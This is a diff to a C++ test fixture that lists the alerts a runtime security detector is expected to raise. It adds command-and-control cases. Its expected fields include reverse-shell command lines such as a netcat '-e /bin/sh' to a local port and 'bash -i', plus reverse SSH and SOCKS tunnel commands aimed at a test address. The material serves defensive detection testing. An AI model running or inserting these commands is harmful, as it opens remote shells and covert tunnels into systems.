@@ -167,6 +167,11 @@ const std::vector<Expect> kExpected = {
     {"Reverse Shell Command Line", "Critical", {{"proc.cmdline", "exec:/bin/sh,pty,stderr # e2e-{tag}"}}},
     {"Reverse Shell", "Critical", {{"proc.cmdline", "busybox nc 127.0.0.1 4444 -e /bin/sh"}}},
     {"Reverse Shell", "Critical", {{"proc.cmdline", "bash -i"}, {"fd.rport", "4444"}}},
+    // command and control
+    {"Network Connection From Shell", "Notice", {{"fd.rip", "192.0.2.7"}, {"proc.cmdline", "e2e-{tag}"}}},
+    {"Interpreter Connection to Non-Standard Port", "Notice", {{"fd.rip", "192.0.2.7"}, {"proc.name", "python3"}}},
+    {"Tunneling Tool Run", "Warning", {{"proc.cmdline", "client 192.0.2.7:8000 R:socks e2e-{tag}"}}},
+    {"Tunneling Tool Run", "Warning", {{"proc.cmdline", "-R 2222:localhost:22 e2e-{tag}@192.0.2.7"}}},
     // persistence
     {"Crontab Edited", "Notice", {{"proc.cmdline", "{dir}/e2e-{tag}.cron"}}},
     {"Systemd Unit Linked From Outside Unit Directories", "Warning",
